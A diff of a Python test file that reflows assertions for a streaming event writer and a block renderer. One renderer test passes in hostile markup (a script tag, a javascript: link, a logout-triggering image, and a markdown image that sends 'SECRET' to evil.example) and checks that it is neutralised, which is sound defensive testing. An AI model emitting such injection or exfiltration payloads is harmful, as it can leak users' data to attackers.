@@ -32,8 +32,10 @@ def test_the_writer_sends_only_what_is_new() -> None:
     progress.apply(ReasoningDelta("Hmm."))
     progress.apply(TextDelta("Hello "))
     first = events(writer.frame(False))
-    assert first == [{"labels": {"thinking": "Thinking"}},
-                     {"lane": 0, "seg": 0, "reasoning": "Hmm.", "more": "Hello "}]
+    assert first == [
+        {"labels": {"thinking": "Thinking"}},
+        {"lane": 0, "seg": 0, "reasoning": "Hmm.", "more": "Hello "},
+    ]
     assert writer.frame(False) == b""  # nothing new, nothing sent
     progress.apply(TextDelta("world.\n\nNext"))
     second = events(writer.frame(False))
@@ -42,8 +44,9 @@ def test_the_writer_sends_only_what_is_new() -> None:
     assert events(writer.frame(False)) == [{"lane": 0, "seg": 0, "more": " words"}]
     progress.apply(ToolCallStarted(ToolCall("t1", "calculator", '{"expression": "1"}')))
     [tools] = events(writer.frame(False))
-    assert tools["tools"] == [{"title": "🛠 calculator · running…",
-                               "arguments": '{"expression": "1"}', "result": None}]
+    assert tools["tools"] == [
+        {"title": "🛠 calculator · running…", "arguments": '{"expression": "1"}', "result": None}
+    ]
     update.state = "complete"
     assert events(writer.frame(True)) == [{"done": True, "state": "complete"}]
 
@@ -59,8 +62,10 @@ def test_a_frame_costs_what_is_new_not_the_answers_length() -> None:
 
 
 def test_rendered_blocks_keep_model_html_as_text_and_load_nothing() -> None:
-    rendered = render_block('<img src="/logout"> <script>x</script> [a](javascript:alert(1)) '
-                            "![secret](http://evil.example/?q=SECRET) [ok](https://example.com)")
+    rendered = render_block(
+        '<img src="/logout"> <script>x</script> [a](javascript:alert(1)) '
+        "![secret](http://evil.example/?q=SECRET) [ok](https://example.com)"
+    )
     assert "<img" not in rendered and "<script" not in rendered
     assert "&lt;img" in rendered
     assert 'href="javascript' not in rendered and "evil.example" not in rendered
